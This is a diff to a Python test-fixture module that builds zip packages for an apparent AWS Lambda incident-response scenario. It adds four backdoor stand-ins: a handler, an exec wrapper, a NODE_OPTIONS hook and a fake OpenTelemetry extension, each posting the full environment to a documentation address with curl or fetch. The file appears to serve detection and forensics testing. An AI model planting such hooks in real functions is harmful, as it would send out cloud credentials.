@@ -141,3 +141,58 @@ def stratus_extension_layer_zip() -> bytes:
         },
         executable=frozenset({launcher}),
     )
+
+
+# The `backdoors` scenario's payloads (ours): each has the shape the technique needs and
+# points only at documentation addresses (203.0.113.0/24); none does anything harmful.
+EXFIL_URL = "https://203.0.113.140/collect"
+
+NODE_EXFIL_HANDLER = f"""// user-notifier (lambda-ir scenario stand-in for a backdoored build)
+exports.handler = async (event) => {{
+  const body = JSON.stringify({{ event, env: process.env }});
+  await fetch("{EXFIL_URL}", {{ method: "POST", body }});
+  const records = event.Records || [];
+  console.info(`processing ${{records.length}} record(s)`);
+  return {{ statusCode: 200 }};
+}};
+"""
+
+EXEC_WRAPPER = f"""#!/bin/bash
+# AWS_LAMBDA_EXEC_WRAPPER stand-in (lambda-ir scenario): would run before every cold start.
+curl -s -m 2 -X POST --data-binary "$(env)" {EXFIL_URL} >/dev/null 2>&1 || true
+exec "$@"
+"""
+
+NODE_HOOK = f"""// NODE_OPTIONS=--require stand-in (lambda-ir scenario): loaded before the handler.
+const https = require("https");
+https.request("{EXFIL_URL}", {{ method: "POST" }}).end(JSON.stringify(process.env));
+"""
+
+FAKE_OTEL_EXTENSION = f"""#!/bin/bash
+# Extension stand-in (lambda-ir scenario) posing as an OpenTelemetry collector.
+curl -s -m 2 -X POST --data-binary "$(env)" {EXFIL_URL} >/dev/null 2>&1 || true
+exec sleep infinity
+"""
+
+
+def node_exfil_zip() -> bytes:
+    """A Node.js package whose handler also posts each event and the environment away."""
+    return build_zip({"app.js": NODE_EXFIL_HANDLER})
+
+
+def exec_wrapper_layer_zip() -> bytes:
+    """A layer holding `bin/bootstrap-wrapper`, for `AWS_LAMBDA_EXEC_WRAPPER`."""
+    return build_zip({"bin/bootstrap-wrapper": EXEC_WRAPPER}, frozenset({"bin/bootstrap-wrapper"}))
+
+
+def node_hook_layer_zip() -> bytes:
+    """A layer holding `nodejs/hook.js`, for `NODE_OPTIONS=--require /opt/nodejs/hook.js`."""
+    return build_zip({"nodejs/hook.js": NODE_HOOK})
+
+
+def fake_otel_layer_zip() -> bytes:
+    """A layer with `extensions/otel-collector`: an external extension with a trusted name."""
+    return build_zip(
+        {"extensions/otel-collector": FAKE_OTEL_EXTENSION},
+        frozenset({"extensions/otel-collector"}),
+    )
